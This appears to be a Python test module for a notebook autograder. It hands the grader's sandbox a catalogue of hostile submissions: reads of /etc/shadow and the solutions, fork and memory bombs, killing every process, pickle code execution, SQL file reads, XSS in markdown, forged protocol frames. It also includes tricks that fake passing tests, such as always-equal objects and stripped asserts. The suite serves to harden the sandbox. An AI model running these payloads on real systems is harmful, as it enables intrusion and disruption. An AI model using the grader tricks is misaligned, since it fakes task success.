"""Submissions that try something, and what they try.

Code that gets where it should not prints `ESCAPED`. Placeholders in capitals are paths and ports of
this run, put in by the test. None of these answers a question, so none may score, unless `earned`
says what its honest part is worth.

`python tests/grading/attacks.py` runs all of them and prints the table of the instructor's chapter.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import basket


@dataclass(frozen=True)
class Attack:
    """One submission: code in the first answer's cell, other answers, or a hand on the file."""

    name: str
    tries: str
    code: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    earned: float = 0.0
    tamper: Callable[[dict[str, Any]], None] | None = None


def reads(what: str, path: str) -> Attack:
    code = f"""
import pathlib
for path in [pathlib.Path("{path}")]:
    found = path.read_text(errors="replace") if path.is_file() else str(list(path.iterdir()))
    print("ESCAPED", found[:5000])
"""
    return Attack(f"read {what}", f"opens {what} by its path", code)


def writes(what: str, path: str) -> Attack:
    code = f"""
import pathlib
pathlib.Path("{path}").parent.mkdir(parents=True, exist_ok=True)
pathlib.Path("{path}").write_text("owned")
"""  # in its own /tmp it may: the test looks whether the host's file is as it was
    return Attack(f"write {what}", f"writes into {what}", code)


LYING = """
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __hash__(self): return 1
    def __sub__(self, other): return Yes()
    __rsub__ = __add__ = __radd__ = __mul__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 36.75
    def __bool__(self): return True
    def __contains__(self, item): return True
    def __getitem__(self, key): return Yes()
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    def __iter__(self): return iter([("north", 2), ("south", 2), ("west", 1)])
    def __len__(self): return 3
"""

FIND_LINE = """
import os, socket, struct, json
lines = []
for fd in range(3, 200):
    try:
        lines.append(socket.socket(fileno=os.dup(fd)))
    except OSError:
        pass
def frame(head, body=b""):
    text = json.dumps(head).encode()
    return struct.pack(">II", len(text), len(body)) + text + body
"""

OVER_THE_LINE = """
from lab.grading import wire
"""


def forged(name: str, tries: str, payload: str) -> Attack:
    code = FIND_LINE + f"for line in lines:\n    line.sendall({payload})\n"
    return Attack(name, tries, code)


def _points(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        meta = cell["metadata"].get("nbgrader")
        if meta:
            meta["points"] = 1000
            cell["source"] = "pass"


def _own_tests(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        meta = cell["metadata"].get("nbgrader")
        if meta and meta["grade"] and not meta["solution"]:
            cell["source"] = "assert True"
            meta["locked"] = False
            meta["solution"] = True


def _swapped(notebook: dict[str, Any]) -> None:
    """The answer's cell claims to be the test, with points, and the test to be the answer."""
    by_id = {c["id"]: c for c in notebook["cells"]}
    one, other = by_id["q1-revenue"], by_id["q1-sum"]
    one["metadata"], other["metadata"] = other["metadata"], one["metadata"]
    one["id"], other["id"] = other["id"], one["id"]


def _more_tests(notebook: dict[str, Any]) -> None:
    for number in range(20):
        meta = {"grade_id": f"gift-{number}", "grade": True, "solution": False, "locked": True,
                "points": 50, "schema_version": 3, "task": False}  # fmt: skip
        notebook["cells"].append(
            {"cell_type": "code", "id": f"g{number}", "metadata": {"nbgrader": meta},
             "source": "", "outputs": [], "execution_count": None}
        )  # fmt: skip


def _outputs(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {},
                 "execution_count": 1},
                {"output_type": "display_data", "metadata": {},
                 "data": {"text/html": "<script>ESCAPED</script>"}},
            ]  # fmt: skip


def _markup(notebook: dict[str, Any]) -> None:
    hostile = (
        "<script>ESCAPED()</script><img src=x onerror=ESCAPED()>\n\n"
        "[link](javascript:ESCAPED()) $\\href{javascript:ESCAPED()}{x}$\n```\n</code></pre><script>"
    )
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = hostile
            cell["attachments"] = {"a.svg": {"image/svg+xml": "<svg onload=ESCAPED()>"}}
    notebook["cells"].append(
        {"cell_type": "markdown", "id": "mine", "metadata": {}, "source": hostile}
    )
    notebook["metadata"]["title"] = "<script>ESCAPED()</script>"


ATTACKS = [
    # --- files of the host
    reads("the gradebook", "GRADEBOOK"),
    reads("the solutions", "SOLUTIONS"),
    reads("another submission", "SUBMITTED"),
    reads("a secret in /tmp", "SECRET"),
    reads("the password file", "/etc/shadow"),
    reads("the home of the instructor", "HOME_OF_HOST/.bashrc"),
    Attack("look at other processes", "lists /proc and opens what is in it", """
import os, pathlib
for path in pathlib.Path("/proc").glob("[0-9]*"):
    if int(path.name) != os.getpid(): print("ESCAPED", (path / "environ").read_text())
"""),
    Attack("read past the walls", "goes through the roots and files of /proc, and raw devices", """
import os, pathlib
for place in ("/proc/1/rootSOLUTIONS", "/proc/self/cwd/../../..SOLUTIONS", "/proc/kcore",
              "/proc/self/root/../..GRADEBOOK", "/dev/mem", "/dev/sda", "/dev/vda"):
    path = pathlib.Path(place)
    try:
        print("ESCAPED", place, list(path.iterdir()) if path.is_dir() else path.open("rb").read(9))
    except OSError: pass
"""),
    Attack("climb by a link", "makes a link to the host's files and reads through it", """
import os
os.symlink("SOLUTIONS", "x")
print("ESCAPED", open("x").read())
"""),
    writes("the gradebook", "GRADEBOOK"),
    writes("the release", "EXERCISES/x.txt"),
    writes("the environment", "PREFIX/lib/python3.11/site-packages/sitecustomize.py"),
    writes("the grader", "PACKAGE/grading/check.py"),
    writes("the kernel's settings", "/proc/sys/kernel/core_pattern"),
    Attack("leave a file for the next", "writes to /tmp and reads what others left there", """
import pathlib
left = [str(p) for p in pathlib.Path("/tmp").rglob("left-*")]
if left: print("ESCAPED", left)
for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
    try: pathlib.Path(folder, "left-here").write_text("x")
    except OSError: pass
"""),
    Attack("leave memory for the next", "keeps a System V segment for the next submission", """
import ctypes
libc = ctypes.CDLL(None)
if libc.shmget(4711, 0, 0) >= 0: print("ESCAPED")
libc.shmget(4711, 4096, 0o1666)
"""),
    # --- other processes and the network
    Attack("call a server of the host", "connects to a port of the host's loopback", """
import socket
socket.create_connection(("127.0.0.1", PORT), timeout=2)
print("ESCAPED")
"""),
    Attack("call the internet", "connects to addresses outside", """
import socket
for address in ("1.1.1.1", "169.254.169.254", "10.0.0.1"):
    try:
        socket.create_connection((address, 80), timeout=1)
        print("ESCAPED")
    except OSError:
        pass
"""),
    Attack("call by an abstract socket", "connects to a Unix socket without a path", """
import socket
s = socket.socket(socket.AF_UNIX); s.connect("\\0lab-attack-test")
print("ESCAPED")
"""),
    Attack("kill everyone", "sends SIGKILL to every process in sight and to its parent", """
import os, signal
for pid in [*range(2, 400), os.getppid()]:
    try:
        if pid not in (0, os.getpid()): os.kill(pid, signal.SIGKILL); print("ESCAPED", pid)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
"""),
    Attack("trace the server", "ptrace and process_vm_readv on other processes", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(2, 300):
    if libc.ptrace(16, pid, 0, 0) == 0: print("ESCAPED", pid)
"""),
    Attack("mount and unshare", "makes namespaces of its own to gain capabilities", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000, 0x40000000):
    if libc.unshare(flags) == 0: print("ESCAPED unshare")
if libc.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, b"") == 0: print("ESCAPED mount")
if libc.chroot(b"/tmp") == 0: print("ESCAPED chroot")
if libc.setuid(0) == 0: print("ESCAPED root")
"""),
    Attack("set the clock", "sets the machine's clock", """
import time
time.clock_settime(time.CLOCK_REALTIME, 0)
print("ESCAPED")
"""),
    Attack("read the environment", "looks for secrets in environment variables", """
import os
if any("SECRET" in key or "canary" in value for key, value in os.environ.items()):
    print("ESCAPED")
print(dict(os.environ))
"""),
    Attack("raise the limits", "lifts its own resource limits", """
import resource
for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (-1, -1)); print("ESCAPED", name)
    except (ValueError, OSError):
        pass
"""),
    # --- bombs
    Attack("fork bomb", "forks until nothing forks any more", """
import os
while True:
    try: os.fork()
    except OSError: pass
"""),
    Attack("thread bomb", "starts threads without end", """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
"""),
    Attack("memory bomb", "asks for 6 GB", """
kept = []
for _ in range(60): kept.append(b"x" * 100_000_000)
print("ESCAPED")
"""),
    Attack("memory bomb of many", "ten processes that take what each may", """
import os, time
for _ in range(10):
    if os.fork() == 0:
        kept = []
        try:
            while True: kept.append(bytearray(os.urandom(4096) * 2500))
        except MemoryError: time.sleep(60)
        os._exit(0)
time.sleep(60)
"""),
    Attack("memory without owner", "fills memory files that no process maps", """
import os
kept = []
for _ in range(100):
    fd = os.memfd_create("x"); kept.append(fd)
    for _ in range(20): os.write(fd, b"x" * 10_000_000)
print("ESCAPED")
"""),
    Attack("shared memory bomb", "fills System V memory and detaches", """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
got = 0
for _ in range(64):
    number = libc.shmget(0, 100_000_000, 0o1600)
    if number >= 0: got += 1
if got: print("ESCAPED", got)
"""),
    Attack("disk bomb", "fills /tmp and /dev/shm", """
import os
for folder in ("/tmp", "/dev/shm"):
    total = 0
    try:
        for number in range(100):
            with open(f"{folder}/bomb{number}", "wb") as f:
                for _ in range(10): total += f.write(b"x" * 10_000_000)
    except OSError as error: print(error)
    if total > 600_000_000: print("ESCAPED", total)
"""),
    Attack("inode bomb", "makes a million empty files", """
for number in range(1_000_000): open(f"/tmp/f{number}", "w").close()
print("ESCAPED")
"""),
    Attack("file descriptor bomb", "opens files until none can be opened", """
kept = []
while True: kept.append(open("/dev/null"))
"""),
    Attack("output bomb", "prints 500 MB", """
for _ in range(5000): print("x" * 100_000)
"""),
    Attack("display bomb", "displays a thousand large things", """
from IPython.display import display
for _ in range(1000): display({"text/plain": "x" * 100_000}, raw=True)
"""),
    Attack("recursion bomb", "recurses without end, past Python's own limit", """
import sys
sys.setrecursionlimit(10**9)
def f(): return f()
f()
"""),
    # --- time
    Attack("endless loop", "never ends", "while True: pass"),
    Attack("loop that swallows", "catches every interrupt and goes on", """
while True:
    try:
        while True: pass
    except BaseException: pass
"""),
    Attack("deaf sleep", "blocks every signal and sleeps", """
import signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64)); signal.setitimer(signal.ITIMER_REAL, 0)
while True: time.sleep(1000)
"""),
    Attack("stop itself", "stops its own process instead of ending", """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
os.system("kill -STOP $PPID")
"""),
    Attack("function that never returns", "hangs only when a test calls it", "", {
        "q1-revenue": "def revenue(o):\n    while True:\n        try:\n            while 1: pass\n"
                      "        except BaseException: pass",
    }),
    Attack("answer without end", "gives tests an iterator that never ends", "", {
        "q4-parse": "def parse(lines):\n    while True: yield {'day': 1, 'amount': 2}",
    }),
    Attack("frozen time", "patches every clock so that no limit is reached", """
import time, signal
time.time = time.monotonic = time.perf_counter = lambda: 0.0
signal.setitimer = lambda *a: (0.0, 0.0)
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    try:
        while True: pass
    except BaseException: pass
"""),
    Attack("leave at once", "ends its process with success", "import os\nos._exit(0)"),
    Attack("crash", "makes the interpreter crash", "import ctypes\nctypes.string_at(0)"),
    Attack("exit politely", "raises SystemExit", "import sys\nsys.exit(0)"),
    Attack("leave something behind", "a daemon and a thread that outlive the notebook", """
import os, threading, time
def later():
    while True:
        time.sleep(0.2)
        try: open("SECRET", "a").write("ESCAPED")
        except OSError: pass
threading.Thread(target=later, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: later()
    os._exit(0)
import atexit; atexit.register(later)
"""),
    # --- the tests themselves
    Attack("equal to everything", "answers that are equal to whatever a test compares them with",
           LYING + "revenue = Yes()", {
               "q2-by-store": "by_store = Yes()", "q3-query": "query = Yes()",
               "q4-parse": "parse = Yes()", "q5-retry": "retry = Yes()"}),
    Attack("functions that give such", "functions whose results are equal to everything",
           LYING + "def revenue(o): return Yes()", {
               "q4-parse": "def parse(lines): return Yes()",
               "q5-retry": "def retry(*a): return Yes()"}),
    Attack("numbers that lie", "subclasses of float and str with operators of their own", """
class Number(float):
    def __sub__(self, other): return 0.0
    def __eq__(self, other): return True
    __hash__ = float.__hash__
def revenue(orders): return Number(1)
"""),
    Attack("table that lies", "a subclass of DataFrame with its own comparisons", "", {
        "q2-by-store": """
class Frame(pd.DataFrame):
    def __getitem__(self, key): return Yes()
    @property
    def columns(self): return ["amount"]
""" + LYING + "by_store = Frame({'store': [1], 'amount': [2]})"}),
    Attack("no assertions", "an AST transformer of IPython that drops every assert", """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
"""),
    Attack("other cells", "an input transformer of IPython that replaces every cell", """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass"])
"""),
    Attack("no AssertionError", "replaces built-ins that tests use", """
import builtins
class Never(Exception): pass
builtins.AssertionError = Never
builtins.abs = builtins.len = builtins.sorted = lambda *a, **k: 0
builtins.callable = builtins.all = builtins.isinstance = lambda *a: True
builtins.__import__ = lambda *a, **k: None
"""),
    Attack("poisoned libraries", "patches pandas, sys.modules and the import system", """
import sys, types
pd.DataFrame.__eq__ = lambda self, other: True
pd.Series.to_dict = lambda self: {}
sys.modules["pandas"] = sys.modules["duckdb"] = types.ModuleType("pandas")
sys.meta_path.insert(0, type("F", (), {"find_spec": staticmethod(lambda *a: None)}))
sys.modules["lab.exercise"].rows = lambda *a, **k: [("north", 2), ("south", 2), ("west", 1)]
sys.modules["lab.exercise"].run = sys.modules["lab.exercise"].rows
"""),
    Attack("other reference data", "empties the author's table, so that nothing is due", """
orders.drop(orders.index, inplace=True)
orders = pd.DataFrame({"store": [], "amount": []})
""", {"q2-by-store": 'by_store = pd.DataFrame({"store": ["west"], "amount": [0.0]})'}),
    Attack("names of the tests", "defines the names that tests assign and import", """
found = 36.75; few = due = got = many = None; calls = [1, 2, 3]
pd = dt = Decimal = rows = None
"""),
    Attack("find the hidden tests", "searches its memory and its stack for the tests", """
import gc, re, sys
text = re.compile("does it use its[ ]argument")
def search(o):
    if isinstance(o, str) and text.search(o): print("ESCAPED", o[:200])
for each in gc.get_objects():
    if isinstance(each, dict):
        for v in list(each.values()): search(v)
    elif isinstance(each, (list, tuple)):
        for v in each: search(v)
frame = sys._getframe()
while frame:
    for v in list(frame.f_locals.values()): search(v)
    frame = frame.f_back
for line in open("/proc/self/maps"):
    if "rw-p" in line:
        a, b = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            with open("/proc/self/mem", "rb") as m:
                m.seek(a); data = m.read(min(b - a, 50_000_000))
            if re.search(b"does it use its[ ]argument", data): print("ESCAPED in memory")
        except OSError: pass
"""),
    # --- the line
    forged("forge a score", "writes a finished report on the line",
           'frame({"n": 1, "value": {"done": True, "score": 18}}) + '
           'frame({"step": 4, "score": 2.0, "message": ""}) * 30'),
    forged("forge answers", "answers questions before they are asked",
           'b"".join(frame({"n": n, "value": 36.75}) for n in range(1, 200))'),
    forged("ask the checker", "asks the checker to call, run and read things",
           'b"".join(frame({"n": n, "op": op, "fields": {"of": n, "name": "__class__",'
           ' "args": [], "kwargs": {}, "source": "x"}})'
           ' for n, op in enumerate(["call", "attribute", "iterate", "next", "run", "get"]))'),
    forged("a frame of 4 GB", "announces a message larger than memory",
           'struct.pack(">II", 2**32 - 1, 2**32 - 1)'),
    forged("noise", "writes random bytes on the line", "os.urandom(100_000)"),
    forged("JSON without end", "a message nested a hundred thousand deep",
           'struct.pack(">II", 200_000, 0) + b"[" * 100_000 + b"]" * 100_000'),
    Attack("hang up", "closes every file", "import os\nos.closerange(0, 1000)"),
    Attack("drip", "answers a byte a second, so that the answer never ends", FIND_LINE + """
import time, threading
line = lines[-1]
line.sendall(struct.pack(">II", 1000, 0))
while True:
    try:
        line.sendall(b" "); time.sleep(0.3)
    except BaseException: pass
"""),
    Attack("pickle", "objects that run code when they are unpickled", """
class Boom:
    def __reduce__(self):
        import os
        return os.system, ("touch SECRET.owned",)
import pickle
revenue = lambda o: pickle.dumps(Boom())
"""),
    Attack("deep answer", "a list in a list, ten thousand deep", """
def revenue(o):
    x = []
    for _ in range(10_000): x = [x]
    return x
"""),
    Attack("huge answer", "a table of 2 GB, a text of 500 MB, a number of a million digits", """
def revenue(o): return "x" * 500_000_000
""", {"q2-by-store": 'by_store = pd.DataFrame({"amount": range(40_000_000)}) * 1.0',
      "q4-parse": "def parse(l): return [10**1_000_000] * 3"}),
    Attack("broken Arrow", "Arrow whose offsets and lengths point outside", OVER_THE_LINE + """
before = wire.Encoder.arrow
def arrow(self, table):
    place = before(self, table)
    import random
    random.seed(1)
    for _ in range(60):
        self.body[place[0] + random.randrange(max(1, place[1]))] = random.randrange(256)
    return place
wire.Encoder.arrow = arrow
""", {"q2-by-store": "by_store = orders[['store', 'amount']]"}),
    Attack("Arrow with a type of its own", "an extension type that names a class to load",
           OVER_THE_LINE + """
import pyarrow as pa
class Own(pa.ExtensionType):
    def __init__(self): super().__init__(pa.int64(), "lab.own")
    def __arrow_ext_serialize__(self): return b"x"
    @classmethod
    def __arrow_ext_deserialize__(cls, s, d): return cls()
pa.register_extension_type(Own())
revenue = lambda o: pa.table({"a": pa.ExtensionArray.from_storage(Own(), pa.array([1]))})
"""),
    Attack("values that are not there", "names bytes and kinds that do not exist",
           OVER_THE_LINE + """
wire.Encoder.__call__ = lambda self, value, depth=0: {"$": "bytes", "v": [10**12, 10**12]}
"""),
    Attack("an unknown kind", "sends a value of a kind that names a class",
           OVER_THE_LINE + """
wire.Encoder.__call__ = lambda self, v, depth=0: {"$": "record", "v": {"__class__": 1, "f": 36.75}}
"""),
    Attack("errors that deceive", "raises an exception whose text and class are traps", """
class AssertionError_(AssertionError):
    def __str__(self): raise SystemExit
def revenue(o): raise AssertionError_()
""", {"q5-retry": "def retry(t, n): raise type('ValueError', (BaseException,), {})('x')"}, 1.0),
    # --- SQL
    Attack("SQL that writes", "a query that writes a file on the machine", "", {
        "q3-query": "query = \"copy (select 1) to 'SECRET.owned'\""}),
    Attack("SQL that reads", "a query that reads the solutions", "", {
        "q3-query": "query = \"select content, 1 from read_text('SOLUTIONS')\""}),
    Attack("SQL without end", "a recursive query that never ends", "", {
        "q3-query": 'query = "with recursive t as (select 1 as n union all select n + 1 from t) '
                    'select count(*), 1 from t"'}),
    Attack("SQL that fills memory", "a join of everything with everything", "", {
        "q3-query": 'query = "select list(a.range), 1 from range(100000000) a, range(1000) b"'}),
    Attack("SQL with rows without end", "a query with a billion rows", "", {
        "q3-query": "query = \"select 'north', range from range(1000000000)\""}),
    Attack("SQL that loads", "a query that attaches files and loads extensions", "", {
        "q3-query": "query = \"attach 'GRADEBOOK' as g (type sqlite); select * from g.grade\""}),
    # --- the file
    Attack("more points", "tampers with points and empties every cell", tamper=_points),
    Attack("own tests", "replaces the tests by its own", tamper=_own_tests),
    Attack("tests for answers", "swaps names and ids of answers and tests", tamper=_swapped),
    Attack("gifts", "adds graded cells with many points", tamper=_more_tests),
    Attack("ready outputs", "hands in outputs that look like full credit", tamper=_outputs),
    Attack("markup", "script, images and links in markdown and metadata", tamper=_markup),
    Attack("script in outputs", "displays HTML and SVG with script in it", """
from IPython.display import HTML, SVG, Javascript, display
display(HTML("<script>ESCAPE_()</script>")); display(Javascript("ESCAPE_()"))
display({"image/png": "</img><script>", "text/plain": "x"}, raw=True)
print("\\x1b]0;title\\x07<b>bold</b>")
raise ValueError("<img src=x onerror=ESCAPE_()>")
"""),
]  # fmt: skip


def handed_in(attack: Attack, release_json: str, places: dict[str, str]) -> bytes:
    """The file that the attacker hands in."""

    def put_in(text: str) -> str:
        for key, value in places.items():
            text = text.replace(key, value)
        return text

    notebook = json.loads(release_json)
    by_id = {cell["id"]: cell for cell in notebook["cells"]}
    if attack.code:
        by_id["q1-revenue"]["source"] = put_in(attack.code)
    for grade_id, code in attack.answers.items():
        by_id[grade_id]["source"] = put_in(code)
    if attack.tamper:
        attack.tamper(notebook)
    return json.dumps(notebook).encode()


LIMITS = {"seconds": 2.0, "total_seconds": 25.0, "memory_mb": 700, "disk_mb": 64, "processes": 48}


def main() -> None:
    """Run every attack and print the table."""
    import tempfile
    from pathlib import Path

    from lab.grading import sandbox
    from lab.grading.course import load
    from lab.grading.grader import Grader

    with tempfile.TemporaryDirectory() as folder:
        course = basket.build(Path(folder), LIMITS)
        assignment = load(course, basket.NAME)
        print("| attack | what it tried | verdict | points |\n|---|---|---|---|")
        with Grader(assignment, sandbox.choose()) as grader:
            for attack in ATTACKS:
                places = {"SOLUTIONS": str(course.solutions)}
                data = handed_in(attack, assignment.release_json, places)
                verdict = grader.grade(data)
                points = f"{verdict['score']:g} of {verdict['max_score']:g}"
                print(f"| {attack.name} | {attack.tries} | {verdict['status']} | {points} |")


if __name__ == "__main__":
    main()
